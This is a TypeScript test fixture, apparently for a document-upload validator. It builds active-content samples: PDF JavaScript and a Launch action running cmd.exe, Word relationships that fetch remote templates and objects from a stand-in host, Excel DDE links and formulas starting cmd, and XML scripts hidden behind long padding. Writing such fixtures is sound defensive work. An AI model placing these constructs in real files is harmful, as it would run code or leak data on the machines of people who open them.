import { onePage, rawPdf, stream } from '../../server/src/features/readings/testing/raw-pdf.ts'
import { zipFile } from '../../server/src/features/documents/testing/zip-file.ts'
import type { HostileFile } from './hostile-file.ts'
import { office } from './parts.ts'

const far = `<!-- ${'x'.repeat(70_000)} -->`
const xhtml = 'http://www.w3.org/1999/xhtml'
const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'

/** Files of a valid type that run something when opened. */
export function activeFiles(): HostileFile[] {
  const xml: Record<string, string> = {
    'a namespace spelled with an entity': `<a><b:script xmlns:b="http://www.w3.org/1999/xhtm&#x6c;">1</b:script></a>`,
    'a script far away': `<a>${far}<script xmlns="${xhtml}">1</script></a>`,
    'a drawing far away': `<a>${far}<svg xmlns="http://www.w3.org/2000/svg" onload="1"/></a>`,
    'a doctype far away': `${far}<!DOCTYPE a [<!ENTITY b "b">]><a>&b;</a>`,
    'a style sheet far away': `${far}<?xml-stylesheet href="data:,x" type="text/xsl"?><a/>`,
    'Word inside': '<?mso-application progid="Word.Document"?><a/>',
    'no end': '<a>',
  }
  const catalog = (entries: string) =>
    rawPdf([`<< /Type /Catalog /Pages 2 0 R ${entries} >>`, '<< /Type /Pages /Kids [] /Count 0 >>'])
  const pdf: Record<string, Uint8Array> = {
    'a script at the start': catalog(`/OpenAction ${script}`),
    'a script in numbers': catalog('/AA << /WC << /S /J#61vaScript /JS (1) >> >>'),
    'a program': catalog('/OpenAction << /S /Launch /Win << /F (cmd.exe) >> >>'),
    'a script in a stream of objects': onePage('', '', stream(`9 0 ${script}`, '/Type /ObjStm /N 1 /First 4')),
  }
  const external = (kind: string, target: string) =>
    zipFile([
      ...office('docx'),
      {
        name: 'word/_rels/settings.xml.rels',
        content: `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="a" TargetMode="External" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}" Target="${target}"/></Relationships>`,
      },
    ])
  const dde = (content: string) => zipFile([...office('xlsx'), { name: 'xl/externalLinks/externalLink1.xml', content }])
  const named = (filename: string, files: Record<string, string | Uint8Array>): HostileFile[] =>
    Object.entries(files).map(([why, content]) => ({
      why: `${filename}: ${why}`,
      filename,
      content: Buffer.from(content),
    }))
  return [
    ...named('factuur.xml', xml),
    ...named('factuur.pdf', pdf),
    ...named('brief.docx', {
      'an external template': external('attachedTemplate', 'https://boos.example/a.dotm'),
      'an external object': external('oleObject', 'http://boos.example/a'),
      'a frame on a share': external('frame', '\\\\boos.example\\a'),
    }),
    ...named('staat.xlsx', {
      'a link that starts a program': dde(
        '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
      ),
      'a formula that starts a program': dde("<a><f>cmd|'/c calc'!A0</f></a>"),
    }),
  ]
}
